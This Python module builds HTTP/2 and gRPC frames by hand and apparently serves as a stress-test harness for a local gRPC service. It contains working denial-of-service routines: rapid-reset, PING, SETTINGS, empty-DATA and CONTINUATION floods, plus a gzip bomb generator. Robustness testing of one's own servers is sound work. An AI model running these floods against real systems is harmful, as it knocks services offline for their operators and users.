"""HTTP/2 by hand: what no library would send, and just enough to be understood."""

import gzip
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = struct.pack(">I", 8)


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header without compression and index; both shorter than 127 bytes."""
    name, value = name.encode(), value.encode()
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request_headers(path, **more):
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "localhost",
              "content-type": "application/grpc", "te": "trailers"}
    fields.update({name.replace("_", "-"): value for name, value in more.items()})
    return b"".join(literal(name, value) for name, value in fields.items())


def message(payload, compress=False):
    """A message of gRPC."""
    return bytes([compress]) + struct.pack(">I", len(payload)) + payload


def zip_bomb(size):
    """`size` zeros, packed."""
    return gzip.compress(bytes(size), 9)


class Connection:
    """One connection. The next stream has the number `stream`."""

    def __init__(self, address, timeout=30, source="127.0.0.1", tls=None):
        """`tls`: an ssl.SSLContext, for a server with the name localhost."""
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout, (source, 0))
        if tls is not None:
            self.socket = tls.wrap_socket(self.socket, server_hostname="localhost")
        self.stream = 1
        self.buffer = b""
        # Without a table of headers, what arrives can be read without one.
        self.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 0)))

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def send(self, data):
        self.socket.sendall(data)

    def frames(self):
        """What arrives, as (kind, flags, stream, payload), until the end of the connection."""
        while True:
            while len(self.buffer) < 9 or len(self.buffer) < 9 + int.from_bytes(self.buffer[:3], "big"):
                data = self.socket.recv(65536)
                if not data:
                    return
                self.buffer += data
            size = int.from_bytes(self.buffer[:3], "big")
            kind, flags, stream = struct.unpack(">BBI", self.buffer[3:9])
            payload, self.buffer = self.buffer[9:9 + size], self.buffer[9 + size:]
            yield kind, flags, stream, payload

    def call(self, path, payload, compress=False, **headers):
        """Calls a method and returns its grpc-status, or None if the connection ended first."""
        stream = self.open(path, **headers)
        for kind, flags, where, content in self.sending(stream, message(payload, compress)):
            if where != stream or not flags & END_STREAM:
                continue
            _, found, value = content.partition(b"grpc-status")
            return int(value[1:1 + value[0]]) if kind == HEADERS and found else None
        return None

    def open(self, path, **headers):
        """Begins a call. Its stream."""
        stream, self.stream = self.stream, self.stream + 2
        self.send(frame(HEADERS, END_HEADERS, stream, request_headers(path, **headers)))
        return stream

    def sending(self, stream, data):
        """Sends `data`, and the end of the stream, as the window of the stream allows; the one of the
        connection is taken to be no smaller. Yields what arrives, as frames() does."""
        window = 65535
        arriving = self.frames()
        while True:
            while data and window >= min(len(data), 16384):
                size = min(16384, len(data))
                self.send(frame(DATA, END_STREAM if size == len(data) else 0, stream, data[:size]))
                data, window = data[size:], window - size
            arrived = next(arriving, None)
            if arrived is None:
                return
            kind, flags, where, content = arrived
            if kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK))
            if kind == WINDOW_UPDATE and where == stream:
                window += int.from_bytes(content, "big")
            yield arrived


# ---- Floods: each sends until `end`, or until it is cut off, and returns how many frames it sent.


def _flood(connection, end, chunk, count):
    """`chunk()` makes the next `count` frames."""
    sent = 0
    connection.socket.settimeout(0.2)
    while time.monotonic() < end:
        try:
            connection.socket.sendall(chunk())
            sent += count
        except socket.timeout:
            return sent  # it takes no more; half a frame may have been sent
        except OSError:
            return sent
    return sent


def rapid_reset(connection, end, path="/hippodrome.v1.Models/List"):
    """Opens streams and resets them at once."""
    block = request_headers(path)

    def chunk():
        frames = []
        for _ in range(100):
            frames.append(frame(HEADERS, END_HEADERS, connection.stream, block))
            frames.append(frame(RST_STREAM, 0, connection.stream, CANCEL))
            connection.stream += 2
        return b"".join(frames)

    return _flood(connection, end, chunk, 100)


def ping_flood(connection, end):
    frames = frame(PING, 0, 0, b"12345678") * 500
    return _flood(connection, end, lambda: frames, 500)


def settings_flood(connection, end):
    frames = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 500
    return _flood(connection, end, lambda: frames, 500)


def empty_frame_flood(connection, end):
    """DATA without data on an open stream."""
    connection.send(frame(HEADERS, END_HEADERS, 1, request_headers("/hippodrome.v1.Models/List")))
    frames = frame(DATA, 0, 1) * 1000
    return _flood(connection, end, lambda: frames, 1000)


def continuation_flood(connection, end):
    """A header block without end."""
    connection.send(frame(HEADERS, 0, 1, request_headers("/hippodrome.v1.Models/List")))
    frames = frame(CONTINUATION, 0, 1, literal("x", "y" * 100) * 150) * 8
    return _flood(connection, end, lambda: frames, 8)


FLOODS = {"rapid reset": rapid_reset, "ping": ping_flood, "settings": settings_flood,
          "empty frames": empty_frame_flood, "continuation": continuation_flood}
